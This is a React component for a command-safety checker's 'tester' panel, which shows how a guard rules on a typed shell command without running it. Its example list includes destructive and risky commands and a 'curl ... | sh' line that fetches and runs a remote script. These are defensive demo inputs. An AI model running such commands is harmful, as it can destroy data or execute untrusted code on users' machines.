import { useQuery } from "@tanstack/react-query";
import { Ban, Check, Hand, type LucideIcon, TriangleAlert } from "lucide-react";
import { useDeferredValue } from "react";
import { guard } from "@/lib/messages/guard";
import { Button } from "@/ui/button";
import { Field, Input, TextArea } from "@/ui/field";
import { Section } from "@/ui/page";
import { Problem, Skeleton } from "@/ui/states";
import { MarkedCommand } from "../marked";
import { checkQuery, type Ruling } from "./queries";
import { Severity } from "./severity";

const words = guard.tester;

/** What the tester starts with: something nobody has to fear. */
export const harmless = "git status --short";

const examples = [
  harmless,
  "rm -rf build",
  "git push --force origin main",
  "curl https://example.com/x.sh | sh",
];

/** Says what would be thought of a command; nothing runs and nothing is kept. */
export function Tester({
  command,
  folder,
  onChange,
}: {
  command: string;
  folder: string;
  onChange: (next: { command: string; folder: string }) => void;
}) {
  const text = useDeferredValue(command);
  const where = useDeferredValue(folder);
  const query = useQuery(checkQuery(text, where.startsWith("/") ? where : ""));
  return (
    <Section title={words.title} note={words.note}>
      <div className="flex flex-col gap-3">
        <Field label={words.command} help={words.commandHelp}>
          {(control) => (
            <TextArea
              {...control}
              className="mono"
              rows={3}
              spellCheck={false}
              autoCapitalize="off"
              value={command}
              onChange={(event) => onChange({ command: event.target.value, folder })}
            />
          )}
        </Field>
        <fieldset className="flex flex-wrap gap-2" aria-label={words.examples}>
          {examples.map((example) => (
            <Button
              key={example}
              className="mono"
              aria-pressed={example === command}
              onClick={() => onChange({ command: example, folder })}
            >
              {example}
            </Button>
          ))}
        </fieldset>
        <Field
          label={words.folder}
          optional
          help={words.folderHelp}
          error={folder && !folder.startsWith("/") ? words.folderAbsolute : undefined}
        >
          {(control) => (
            <Input
              {...control}
              className="mono"
              value={folder}
              placeholder={words.folderPlaceholder}
              onChange={(event) => onChange({ command, folder: event.target.value })}
            />
          )}
        </Field>
        <div aria-live="polite" aria-busy={query.isFetching}>
          {command.trim() === "" ? (
            <p className="text-fg-3">{words.nothing}</p>
          ) : query.error ? (
            <Problem error={query.error} retry={() => void query.refetch()} />
          ) : query.data ? (
            <Answer ruling={query.data} command={text} />
          ) : (
            <Skeleton rows={3} />
          )}
        </div>
      </div>
    </Section>
  );
}

const icons: Record<string, LucideIcon> = { allow: Check, warn: TriangleAlert, ask: Hand, refuse: Ban };

function Answer({ ruling, command }: { ruling: Ruling; command: string }) {
  const Icon = icons[ruling.verdict] ?? Hand;
  return (
    <div className="flex flex-col gap-3">
      <div className={`verdict ${ruling.verdict}`}>
        <Icon className="mt-0.5" aria-hidden="true" />
        <div className="flex min-w-0 flex-col gap-0.5">
          <p className="font-semibold">{words.verdicts[ruling.verdict] ?? ruling.verdict}</p>
          <p>{ruling.effect || words.noEffect}</p>
        </div>
        <span className="flex-1" />
        <Severity of={ruling.severity} plain />
      </div>
      <MarkedCommand text={command} span={ruling.verdict === "allow" ? undefined : ruling.span} />
      <dl className="facts">
        {ruling.rule && (
          <>
            <dt>{guard.card.facts.rule}</dt>
            <dd>
              <code className="mono">{ruling.rule}</code>
            </dd>
          </>
        )}
        {ruling.alternative && (
          <>
            <dt>{guard.card.facts.safer}</dt>
            <dd>
              <code className="mono">{ruling.alternative}</code>
            </dd>
          </>
        )}
      </dl>
      {ruling.trail && ruling.trail.length > 0 && (
        <details>
          <summary className="link cursor-pointer text-small">{words.trail}</summary>
          <ol className="mt-2 flex flex-col gap-1 text-small">
            {ruling.trail.map((step, i) => (
              // biome-ignore lint/suspicious/noArrayIndexKey: steps of one fixed explanation
              <li key={i} style={{ paddingLeft: 12 * step.depth }} className="break-words">
                {step.says}
              </li>
            ))}
          </ol>
        </details>
      )}
    </div>
  );
}
